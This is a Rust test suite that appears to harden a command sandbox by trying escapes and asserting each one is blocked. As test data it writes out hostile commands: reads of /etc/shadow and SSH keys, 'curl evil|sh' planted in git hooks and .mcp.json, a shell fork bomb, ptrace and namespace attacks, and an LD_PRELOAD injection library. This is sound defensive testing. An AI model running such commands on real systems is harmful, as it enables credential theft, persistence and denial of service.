@@ -1,0 +1,765 @@
+//! The escape suite: one test per attack, under strict (and standard where it should hold).
+
+use crate::util::*;
+
+sandbox_test! {
+    fn escape_read_etc_shadow() {
+        let env = Env::new("shadow");
+        let host = std::fs::read_to_string("/etc/shadow")
+            .expect("the test needs a readable /etc/shadow (root)");
+        for policy in ["strict", "standard"] {
+            let o = env.exec(policy, &["cat", "/etc/shadow"]);
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            let first = host.lines().next().unwrap_or("root:");
+            assert!(!stdout(&o).contains(first), "{policy} leaked /etc/shadow");
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_read_ssh_key_in_home() {
+        let env = Env::new("ssh");
+        std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir");
+        std::fs::write(env.home.join(".ssh/id_ed25519"), "PRIVATE-KEY-MATERIAL").expect("write");
+        let key = env.home.join(".ssh/id_ed25519").display().to_string();
+        for policy in ["strict", "standard", "permissive"] {
+            let o = env.exec(policy, &["cat", &key]);
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert!(
+                !stdout(&o).contains("PRIVATE-KEY-MATERIAL"),
+                "{policy} leaked the key"
+            );
+            let o = env.sh(policy, "cat ~/.ssh/id_ed25519; ls -a ~/.ssh");
+            assert_stdout_lacks(&o, "PRIVATE-KEY-MATERIAL", &format!("{policy} leaked the key via ~"));
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_read_file_outside_workspace() {
+        let env = Env::new("readout");
+        let f = env.outside.join("secret.txt");
+        std::fs::write(&f, "OUTSIDE-SECRET").expect("write");
+        let o = env.exec("strict", &["cat", &f.display().to_string()]);
+        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
+        assert!(!stdout(&o).contains("OUTSIDE-SECRET"));
+        let o = env.exec("strict", &["cat", "../outside/secret.txt"]);
+        assert_stdout_lacks(&o, "OUTSIDE-SECRET", "..");
+    }
+}
+
+sandbox_test! {
+    fn escape_read_home_directory_under_strict() {
+        let env = Env::new("home");
+        std::fs::write(env.home.join("notes.txt"), "HOME-NOTES").expect("write");
+        let o = env.sh("strict", "cat \"$0\"/notes.txt; ls \"$0\"");
+        assert_stdout_lacks(&o, "HOME-NOTES", "");
+        let o = env.exec(
+            "strict",
+            &["cat", &env.home.join("notes.txt").display().to_string()],
+        );
+        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
+    }
+}
+
+sandbox_test! {
+    fn escape_write_outside_workspace() {
+        let env = Env::new("writeout");
+        let target = env.outside.join("planted");
+        for policy in ["strict", "standard"] {
+            let o = env.exec(policy, &["touch", &target.display().to_string()]);
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert!(!target.exists(), "{policy} wrote outside the workspace");
+            let o = env.sh(policy, "echo x > ../outside/planted2");
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert!(!env.outside.join("planted2").exists());
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_write_global_tmp() {
+        let env = Env::new("globaltmp");
+        let target = format!("/tmp/gw-escape-{}", std::process::id());
+        for policy in ["strict", "standard"] {
+            let o = env.exec(policy, &["touch", &target]);
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert!(
+                !Path::new(&target).exists(),
+                "{policy} wrote to the global /tmp"
+            );
+            // The private TMPDIR works, is not the global /tmp, and is private to the run: a file
+            // written there is seen neither on the host nor by the next run.
+            let o = env.sh(
+                policy,
+                "echo ok > \"$TMPDIR/gw-private\" && cat \"$TMPDIR/gw-private\" && echo \"$TMPDIR\"",
+            );
+            assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            let tmpdir = stdout(&o).lines().nth(1).unwrap_or_default().to_string();
+            assert!(tmpdir.starts_with("/tmp/") && tmpdir != "/tmp", "{tmpdir}");
+            assert!(
+                !Path::new(&tmpdir).join("gw-private").exists(),
+                "TMPDIR file visible on the host"
+            );
+            let o = env.sh(policy, "ls -A \"$TMPDIR\"");
+            assert_eq!(
+                stdout(&o).trim(),
+                "",
+                "{policy}: the next run sees: {}",
+                text(&o)
+            );
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_symlink_out_of_workspace() {
+        let env = Env::new("symlink");
+        std::fs::write(env.outside.join("secret"), "LINKED-SECRET").expect("write");
+        std::os::unix::fs::symlink(&env.outside, env.ws.join("out")).expect("symlink");
+        std::os::unix::fs::symlink("/etc/shadow", env.ws.join("shadow")).expect("symlink");
+        for policy in ["strict", "standard"] {
+            let o = env.exec(policy, &["cat", "shadow"]);
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            let o = env.sh(policy, "echo pwned > out/planted");
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert!(!env.outside.join("planted").exists());
+            // A symlink made inside the sandbox does not help either.
+            let o = env.sh(policy, "ln -s /etc/shadow s2 && cat s2");
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+        }
+        let o = env.exec("strict", &["cat", "out/secret"]);
+        assert_stdout_lacks(&o, "LINKED-SECRET", "");
+    }
+}
+
+sandbox_test! {
+    fn escape_hardlink_creation() {
+        let env = Env::new("hardlink");
+        let secret = env.outside.join("secret");
+        std::fs::write(&secret, "HARDLINK-SECRET").expect("write");
+        for policy in ["strict", "standard"] {
+            let o = env.sh(policy, &format!("ln {} hl && cat hl", secret.display()));
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert!(!stdout(&o).contains("HARDLINK-SECRET"));
+            // Link a readable system file and write through the link: the original stays intact.
+            let o = env.sh(policy, "ln /etc/hostname h2 && echo pwned >> h2");
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+        }
+        assert_eq!(
+            std::fs::read_to_string(&secret).expect("read"),
+            "HARDLINK-SECRET"
+        );
+        assert!(
+            !std::fs::read_to_string("/etc/hostname")
+                .unwrap_or_default()
+                .contains("pwned")
+        );
+    }
+}
+
+sandbox_test! {
+    fn escape_proc_self_root() {
+        let env = Env::new("procroot");
+        for policy in ["strict", "standard"] {
+            for p in [
+                "/proc/self/root/etc/shadow",
+                "/proc/1/root/etc/shadow",
+                "/proc/self/cwd/../outside/x",
+            ] {
+                let o = env.exec(policy, &["cat", p]);
+                assert_ne!(o.status.code(), Some(0), "{policy} {p}: {}", text(&o));
+            }
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_inherited_fd() {
+        let env = Env::new("fd");
+        let secret = env.outside.join("secret");
+        std::fs::write(&secret, "FD-SECRET").expect("write");
+        // The caller holds fd 5 open on a file outside; the sandboxed command may not use it.
+        let o = env
+            .raw("sh")
+            .arg("-c")
+            .arg(format!(
+                "exec 5<{}; exec {BIN} exec --policy strict -- sh -c 'cat <&5; ls -l /proc/self/fd'",
+                secret.display()
+            ))
+            .stdin(Stdio::null())
+            .output()
+            .expect("run");
+        assert_stdout_lacks(&o, "FD-SECRET", "");
+        assert_stdout_lacks(&o, " 5 -> ", "fd 5 visible");
+    }
+}
+
+sandbox_test! {
+    fn escape_state_dir_unreachable() {
+        let env = Env::new("state");
+        // A real audit log, keys and artifacts, made by a run.
+        let o = env.exec("strict", &["echo", "STATE-RECORD"]);
+        assert!(o.status.success(), "{}", text(&o));
+        let log = env.state.join("audit/log.jsonl").display().to_string();
+        let key = env.state.join("keys/epoch-0.key").display().to_string();
+        let arts = env.state.join("audit/artifacts").display().to_string();
+        for policy in ["strict", "standard", "permissive"] {
+            for target in [&log, &key] {
+                let o = env.sh(policy, &format!("cat {target} | wc -c"));
+                assert_eq!(stdout(&o).trim(), "0", "{policy}: {target} was readable: {}", text(&o));
+            }
+            let o = env.sh(policy, &format!("ls {arts} {}", env.state.display()));
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            for target in [&log, &key] {
+                let o = env.sh(policy, &format!("echo forged >> {target}"));
+                assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            }
+            let o = env.sh(policy, &format!("rm -rf {}/*", env.state.display()));
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+        }
+        let content = std::fs::read_to_string(&log).expect("read");
+        // The attempts are recorded (their arguments say "forged"); nothing else was written.
+        assert!(content.lines().all(|l| l.starts_with("{\"seq\":")), "{content}");
+        assert!(!content.contains("forged\n"), "{content}");
+        let o = env.cmd().args(["log", "verify"]).output().expect("verify");
+        assert!(o.status.success(), "{}", text(&o));
+        assert!(std::path::Path::new(&key).exists());
+    }
+}
+
+sandbox_test! {
+    fn escape_write_git_hooks_and_config() {
+        let env = Env::new("githooks");
+        env.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
+        env.write(".git/config", "[core]\n");
+        env.write(".envrc", "export A=1\n");
+        for policy in ["strict", "standard"] {
+            for script in [
+                "echo 'curl evil|sh' > .git/hooks/pre-commit",
+                "echo '[core] fsmonitor = evil' >> .git/config",
+                "mv .git/config .git/config.bak",
+                "rm -f .git/hooks/pre-commit.sample",
+                "echo evil >> .envrc",
+                // Moving the parent away would carry the read-only mounts with it.
+                "mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
+                "rm -rf .git",
+                "mv .envrc .envrc-moved",
+            ] {
+                let o = env.sh(policy, script);
+                assert_ne!(
+                    o.status.code(),
+                    Some(0),
+                    "{policy} `{script}`: {}",
+                    text(&o)
+                );
+            }
+            assert!(!env.ws.join(".git/hooks/pre-commit").exists());
+            assert_eq!(
+                std::fs::read_to_string(env.ws.join(".git/config")).expect("read"),
+                "[core]\n"
+            );
+            // Protected paths that did not exist cannot be planted either: the broker moves what
+            // the run created into the quarantine and says so.
+            for (script, planted) in [
+                ("echo 'curl evil | sh' > .mcp.json", ".mcp.json"),
+                (
+                    "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
+                    ".vscode",
+                ),
+                ("echo 'export PATH=/evil' > .bashrc", ".bashrc"),
+            ] {
+                let o = env.sh(policy, script);
+                assert_eq!(
+                    o.status.code(),
+                    Some(0),
+                    "{policy} `{script}`: {}",
+                    text(&o)
+                );
+                assert!(
+                    !env.ws.join(planted).exists(),
+                    "{policy}: {planted} was left in the workspace"
+                );
+                let err = String::from_utf8_lossy(&o.stderr);
+                assert!(
+                    err.contains("created protected path") && err.contains(planted),
+                    "{err}"
+                );
+            }
+            let quarantined = std::fs::read_dir(env.state.join("quarantine"))
+                .map(|d| d.count())
+                .unwrap_or(0);
+            assert!(quarantined >= 3, "{quarantined} quarantined");
+            // The rest of .git and the workspace stay writable.
+            let o = env.sh(policy, "echo ok > .git/description && echo ok > new.txt");
+            assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_tcp_socket() {
+        let env = Env::new("tcp");
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+        let port = listener.local_addr().expect("addr").port();
+        let code = format!(
+            "import socket\ns=socket.create_connection(('127.0.0.1',{port}),timeout=3)\nprint('CONNECTED')"
+        );
+        for policy in ["strict", "standard"] {
+            let o = python(&env, policy, &code);
+            assert_stdout_lacks(&o, "CONNECTED", policy);
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+        }
+        // strict: no socket at all.
+        let o = python(
+            &env,
+            "strict",
+            "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_STREAM)",
+        );
+        assert!(
+            String::from_utf8_lossy(&o.stderr).contains("Operation not permitted"),
+            "{}",
+            text(&o)
+        );
+    }
+}
+
+sandbox_test! {
+    fn escape_udp_socket() {
+        let env = Env::new("udp");
+        let o = python(
+            &env,
+            "strict",
+            "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x',('8.8.8.8',53))\nprint('SENT')",
+        );
+        assert_stdout_lacks(&o, "SENT", "");
+        assert_ne!(o.status.code(), Some(0));
+        // connect_tcp policies forbid UDP too.
+        let p = env.policy_file("extends = \"strict\"\n[sandbox]\nnetwork = { connect_tcp = [443] }\n");
+        let o = python(
+            &env,
+            &p,
+            "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nprint('UDP')",
+        );
+        assert_stdout_lacks(&o, "UDP", "");
+    }
+}
+
+sandbox_test! {
+    fn escape_raw_and_netlink_sockets() {
+        let env = Env::new("raw");
+        for policy in ["strict", "standard", "permissive"] {
+            for (fam, ty) in [
+                ("AF_INET", "SOCK_RAW"),
+                ("AF_NETLINK", "SOCK_RAW"),
+                ("AF_PACKET", "SOCK_RAW"),
+            ] {
+                let code = format!(
+                    "import socket\ns=socket.socket(socket.{fam}, socket.{ty}, 0)\nprint('OPENED')"
+                );
+                let o = python(&env, policy, &code);
+                assert_stdout_lacks(&o, "OPENED", &format!("{policy} {fam}"));
+            }
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_connect_tcp_port_restriction() {
+        let env = Env::new("tcpport");
+        let allowed = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+        let denied = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+        let ap = allowed.local_addr().expect("addr").port();
+        let dp = denied.local_addr().expect("addr").port();
+        let p = env.policy_file(&format!(
+            "extends = \"strict\"\n[sandbox]\nnetwork = {{ connect_tcp = [{ap}] }}\n"
+        ));
+        let conn = |port: u16| {
+            format!(
+                "import socket\nsocket.create_connection(('127.0.0.1',{port}),timeout=3)\nprint('CONNECTED')"
+            )
+        };
+        let o = python(&env, &p, &conn(ap));
+        assert!(
+            stdout(&o).contains("CONNECTED"),
+            "allowed port: {}",
+            text(&o)
+        );
+        let o = python(&env, &p, &conn(dp));
+        assert_stdout_lacks(&o, "CONNECTED", "denied port");
+        let o = python(
+            &env,
+            &p,
+            "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()\nprint('LISTENING')",
+        );
+        assert_stdout_lacks(&o, "LISTENING", "bind");
+    }
+}
+
+sandbox_test! {
+    fn escape_unix_sockets_abstract_and_pathname() {
+        let env = Env::new("unix");
+        let path = env.outside.join("agent.sock");
+        let _l1 = std::os::unix::net::UnixListener::bind(&path).expect("bind pathname");
+        let name = format!("gw-test-{}", std::process::id());
+        let _l2 = {
+            use std::os::linux::net::SocketAddrExt;
+            let addr =
+                std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract");
+            std::os::unix::net::UnixListener::bind_addr(&addr).expect("bind abstract")
+        };
+        for policy in ["strict", "standard", "permissive"] {
+            let code = format!(
+                "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect({:?})\nprint('CONNECTED')",
+                path.display().to_string()
+            );
+            let o = python(&env, policy, &code);
+            assert_stdout_lacks(&o, "CONNECTED", &format!("{policy} pathname"));
+            let code = format!(
+                "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect('\\0{name}')\nprint('CONNECTED')"
+            );
+            let o = python(&env, policy, &code);
+            assert_stdout_lacks(&o, "CONNECTED", &format!("{policy} abstract"));
+        }
+        assert_attack_blocked("strict", "socket-unix", None);
+        // socketpair stays available.
+        let env = Env::new("socketpair");
+        let a = env.attack();
+        let o = env.exec("strict", &[&a, "socketpair"]);
+        assert!(stdout(&o).contains("OK socketpair"), "{}", text(&o));
+    }
+}
+
+sandbox_test! {
+    fn standard_loopback_is_private_and_works() {
+        let env = Env::new("loopback");
+        let code = "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()\nc=socket.create_connection(s.getsockname())\na,_=s.accept()\nc.send(b'ping')\nprint(a.recv(4).decode())";
+        let o = python(&env, "standard", code);
+        assert_eq!(stdout(&o).trim(), "ping", "{}", text(&o));
+    }
+}
+
+sandbox_test! {
+    fn escape_signal_outside_process() {
+        let mut victim = Outside::sleep("x");
+        for policy in ["strict", "standard"] {
+            assert_attack_blocked(policy, "kill", Some(&victim.pid()));
+            let env = Env::new("kill");
+            let _ = env.exec(policy, &["kill", "-9", &victim.pid()]);
+            assert!(victim.alive(), "{policy}: the outside process was killed");
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_ptrace_outside_process() {
+        let victim = Outside::sleep("x");
+        for policy in ["strict", "standard", "permissive"] {
+            assert_attack_blocked(policy, "ptrace", Some(&victim.pid()));
+            assert_attack_blocked(policy, "ptrace-seize", Some(&victim.pid()));
+        }
+        // ptrace of a process inside the sandbox is denied too (seccomp, not only pid visibility).
+        let env = Env::new("ptrace-in");
+        let a = env.attack();
+        let o = env.sh("strict", &format!("sleep 30 & {a} ptrace $!"));
+        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
+    }
+}
+
+sandbox_test! {
+    fn escape_proc_of_outside_process() {
+        let victim = Outside::sleep("OUTSIDE-ENV-SECRET");
+        let pid = victim.pid();
+        let env = Env::new("procpid");
+        for policy in ["strict", "standard", "permissive"] {
+            for f in ["environ", "cmdline", "mem", "maps"] {
+                let o = env.exec(policy, &["cat", &format!("/proc/{pid}/{f}")]);
+                assert_ne!(o.status.code(), Some(0), "{policy} {f}: {}", text(&o));
+                assert!(!stdout(&o).contains("OUTSIDE-ENV-SECRET"));
+            }
+            // The pid namespace shows only the sandbox's own processes.
+            let o = env.sh(policy, "ls /proc | grep -E '^[0-9]+$' | wc -l");
+            let n: usize = stdout(&o).trim().parse().unwrap_or(999);
+            assert!(n < 10, "{policy}: {n} processes visible: {}", text(&o));
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_namespaces_and_mounts() {
+        for policy in ["strict", "standard", "permissive"] {
+            for mode in [
+                "mount",
+                "umount",
+                "chroot",
+                "unshare-user",
+                "unshare-ns",
+                "unshare-net",
+                "setns",
+                "clone-newuser",
+                "clone3",
+            ] {
+                assert_attack_blocked(policy, mode, None);
+            }
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_dangerous_syscalls() {
+        for policy in ["strict", "standard", "permissive"] {
+            for mode in [
+                "io_uring",
+                "bpf",
+                "keyctl",
+                "add_key",
+                "perf",
+                "userfaultfd",
+                "personality",
+                "open_by_handle",
+                "x32-getpid",
+            ] {
+                assert_attack_blocked(policy, mode, None);
+            }
+        }
+        let victim = Outside::sleep("x");
+        assert_attack_blocked("strict", "x32-ptrace", Some(&victim.pid()));
+    }
+}
+
+#[test]
+fn attack_fixture_detects_escapes_when_not_confined() {
+    // The same fixture, run directly (as root, unconfined), reports ESCAPED: the suite can fail.
+    if skip() {
+        return;
+    }
+    for mode in ["keyctl", "userfaultfd", "perf", "socket-unix"] {
+        let o = Command::new(attack_bin())
+            .arg(mode)
+            .output()
+            .expect("run attack");
+        assert!(
+            stdout(&o).contains("ESCAPED"),
+            "{mode} unconfined: {}",
+            text(&o)
+        );
+    }
+    let env = Env::new("fixture");
+    let o = Command::new(attack_bin())
+        .arg("mknod")
+        .current_dir(&env.ws)
+        .output()
+        .expect("run");
+    assert!(
+        stdout(&o).contains("ESCAPED"),
+        "mknod unconfined: {}",
+        text(&o)
+    );
+    // And the gateway reports a non-zero exit when a confined command fails.
+    let o = env.exec("strict", &["false"]);
+    assert_eq!(o.status.code(), Some(1));
+}
+
+sandbox_test! {
+    fn escape_tiocsti_under_a_pty() {
+        let env = Env::new("tiocsti");
+        let a = env.attack();
+        for mode in ["tiocsti", "tiocsti-highbits"] {
+            // python's pty module gives the gateway (and so the sandbox) a terminal as stdin.
+            let o = env
+                .raw("python3")
+                .args([
+                    "-c",
+                    "import pty,sys; sys.exit(pty.spawn(sys.argv[1:]) >> 8)",
+                ])
+                .args([BIN, "exec", "--policy", "strict", "--", &a, mode])
+                .output()
+                .expect("run under pty");
+            assert!(stdout(&o).contains("BLOCKED"), "{mode}: {}", text(&o));
+            assert_stdout_lacks(&o, "ESCAPED", mode);
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_mknod_and_capabilities() {
+        for policy in ["strict", "standard", "permissive"] {
+            assert_attack_blocked(policy, "mknod", None);
+            assert_attack_blocked(policy, "caps", None);
+            assert_attack_blocked(policy, "setuid", None);
+        }
+        let env = Env::new("caps");
+        let f = env.write("locked", "LOCKED-CONTENT");
+        std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o000)).expect("chmod");
+        // CAP_DAC_OVERRIDE: root without it cannot read a mode-000 file.
+        let o = env.exec("strict", &["cat", "locked"]);
+        assert_stdout_lacks(&o, "LOCKED-CONTENT", "");
+        assert_ne!(o.status.code(), Some(0));
+        // CAP_CHOWN.
+        let a = env.attack();
+        let o = env.exec("strict", &[&a, "chown", "locked"]);
+        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
+        // CAP_NET_RAW (also seccomp): ping needs a raw or ICMP socket.
+        let o = env.exec("standard", &["python3", "-c", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\nprint('RAW')"]);
+        assert_stdout_lacks(&o, "RAW", "");
+    }
+}
+
+sandbox_test! {
+    fn escape_timeout_by_setsid() {
+        let env = Env::new("setsid");
+        let marker = format!("1{}.25", std::process::id());
+        let o = env
+            .cmd()
+            .args([
+                "exec",
+                "--policy",
+                "strict",
+                "--timeout",
+                "1",
+                "--",
+                "sh",
+                "-c",
+            ])
+            .arg(format!(
+                "setsid sleep {marker} & setsid sh -c 'sleep {marker}' & sleep {marker}"
+            ))
+            .output()
+            .expect("run");
+        assert_eq!(o.status.code(), Some(124), "{}", text(&o));
+        assert_no_survivors(&marker, "setsid");
+    }
+}
+
+sandbox_test! {
+    fn escape_background_survivor() {
+        let env = Env::new("bg");
+        let marker = format!("2{}.5", std::process::id());
+        for policy in ["strict", "standard"] {
+            let o = env.sh(
+                policy,
+                &format!("nohup sleep {marker} >/dev/null 2>&1 & (setsid sleep {marker} &) ; (sleep {marker} & ) ; echo started"),
+            );
+            assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert_no_survivors(&marker, policy);
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_fork_bomb() {
+        let env = Env::new("forkbomb");
+        // The fixture's bomb hits the process limit.
+        let a = env.attack();
+        let o = env.exec("strict", &[&a, "forkbomb"]);
+        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
+        // A shell fork bomb is contained and killed at the timeout, leaving nothing behind.
+        let o = env
+            .cmd()
+            .args([
+                "exec",
+                "--policy",
+                "strict",
+                "--timeout",
+                "3",
+                "--",
+                "sh",
+                "-c",
+                "bomb() { bomb | bomb & }; bomb",
+            ])
+            .output()
+            .expect("run");
+        assert!(
+            matches!(o.status.code(), Some(124) | Some(0)),
+            "{}",
+            text(&o)
+        );
+        // The bomb's shells run `sh -c ... bomb ...`; none may remain.
+        assert_no_survivors("bomb | bomb", "fork bomb");
+    }
+}
+
+sandbox_test! {
+    fn escape_memory_hog() {
+        let env = Env::new("memhog");
+        let p = env.policy_file("extends = \"strict\"\n[sandbox.limits]\nmemory = \"512MiB\"\n");
+        let a = env.attack();
+        let o = env.exec(&p, &[&a, "memhog"]);
+        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
+        let o = env.exec(
+            &p,
+            &[
+                "python3",
+                "-c",
+                "x = bytearray(2 * 1024**3)\nprint('ALLOCATED')",
+            ],
+        );
+        assert_stdout_lacks(&o, "ALLOCATED", "");
+        assert_ne!(o.status.code(), Some(0));
+    }
+}
+
+sandbox_test! {
+    fn escape_scrubbed_env_and_ld_preload() {
+        let env = Env::new("envscrub");
+        let lib_src = env.root.join("inject.c");
+        std::fs::write(&lib_src, "#define _GNU_SOURCE\n#include <errno.h>\n#include <stdio.h>\n__attribute__((constructor)) static void i(void){ fprintf(stderr, \"INJECTED into %s\\n\", program_invocation_short_name); }\n").expect("write");
+        let lib = env.outside.join("inject.so");
+        gcc(&lib_src, &lib, &["-shared", "-fPIC"]);
+        for policy in ["strict", "standard", "permissive"] {
+            let o = env
+                .cmd()
+                .args(["exec", "--policy", policy, "--", "env"])
+                .env("GITHUB_TOKEN", "ghp_SECRETVALUE1")
+                .env("AWS_SECRET_ACCESS_KEY", "AWSSECRETVALUE2")
+                .env("DB_PASSWORD", "PASSWORDVALUE3")
+                .env("MY_API_KEY", "APIKEYVALUE4")
+                .env("SSH_AUTH_SOCK", "/tmp/agent.sock")
+                .env("LD_PRELOAD", &lib)
+                .env("BASH_ENV", "/tmp/evil")
+                .env("SHELLOPTS", "xtrace")
+                .env("PS4", "$(echo PS4-INJECTED)")
+                .output()
+                .expect("run");
+            let out = text(&o);
+            assert_eq!(o.status.code(), Some(0), "{policy}: {out}");
+            // (The caller's own LD_PRELOAD also loads into the gateway process itself; what matters
+            // is that it does not reach the sandboxed program, `env`.)
+            for leaked in [
+                "SECRETVALUE1",
+                "AWSSECRETVALUE2",
+                "PASSWORDVALUE3",
+                "APIKEYVALUE4",
+                "SSH_AUTH_SOCK",
+                "LD_PRELOAD=",
+                "INJECTED into env",
+                "BASH_ENV",
+                "SHELLOPTS",
+                "PS4-INJECTED",
+            ] {
+                assert!(!out.contains(leaked), "{policy} leaked {leaked}: {out}");
+            }
+        }
+        // The library does inject when not scrubbed (control).
+        let o = Command::new("true")
+            .env("LD_PRELOAD", &lib)
+            .output()
+            .expect("run");
+        assert!(String::from_utf8_lossy(&o.stderr).contains("INJECTED into true"));
+        // Asking for a scrubbed variable explicitly is refused.
+        let o = env
+            .cmd()
+            .args([
+                "exec",
+                "--policy",
+                "strict",
+                "--env",
+                "LD_PRELOAD=/x.so",
+                "--",
+                "true",
+            ])
+            .output()
+            .expect("run");
+        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
+    }
+}
